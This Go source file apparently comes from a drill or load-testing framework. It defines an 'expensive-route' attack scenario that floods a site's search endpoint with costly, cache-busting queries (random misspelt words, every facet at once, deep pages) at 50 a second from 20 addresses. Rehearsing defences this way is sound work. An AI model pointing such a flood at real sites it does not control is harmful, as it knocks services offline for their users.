package attack

import (
	"strings"

	"kontor/drill/browser"
)

func init() { kinds["expensive-route"] = newExpensiveRoute }

// costly are the searches that cost a site most, with a random word of the
// trade and one that nobody spells so: many common words of which any may match, misspelt ones that are
// looked for by likeness, all facets at once, and the last pages of long lists.
var costly = []string{
	"/search?q=%s+%s+set+black+steel+cotton+with+and+for&sort=lead",
	"/search?q=%sx+%sq+mashine+stainles",
	"/search?q=%s&origin=CN&origin=DE&origin=IN&origin=TR&origin=VN&price=5&moq=2&lead=8&sort=moq&pieces=%s",
	"/search?q=%s+%s&page=41",
	"/search?q=a*+%s+e*+%s+i*+o*+s*",
}

// words are common in catalogues, so that lists are long.
var words = []string{"pump", "valve", "cable", "bag", "shirt", "lamp", "coffee", "paper", "chair", "bearing", "glass", "battery", "filter", "box", "tea", "motor", "hose", "oil"}

// newExpensiveRoute asks for the costliest searches, each a new one: 50 a second
// in all from 20 addresses. A path of the scenario may hold %s, once or twice,
// for random words.
func newExpensiveRoute(p Params) (Attack, error) {
	sources, total, err := p.spread(usual{addresses: 20, rate: 2.5, networks: "many"})
	if err != nil {
		return nil, err
	}
	paths := costly
	if p.Path != "" {
		paths = []string{p.Path}
	}
	return &flood{sources, total, p.Connections, func(t Target) (func(uint64, *client) request, func(uint64, *client, answer), error) {
		return func(i uint64, _ *client) request {
			n := mix(p.Seed + i)
			path := paths[i%uint64(len(paths))]
			for at := uint(8); strings.Contains(path, "%s"); at += 28 {
				word := words[n>>at%uint64(len(words))]
				if at > 8 { // one that no list has: nothing found before is of use
					word += string([]byte{byte('a' + n>>(at+8)%26), byte('a' + n>>(at+16)%26)})
				}
				path = strings.Replace(path, "%s", word, 1)
			}
			return t.page(browser.Desk, path, "", nil)
		}, nil, nil
	}}, nil
}
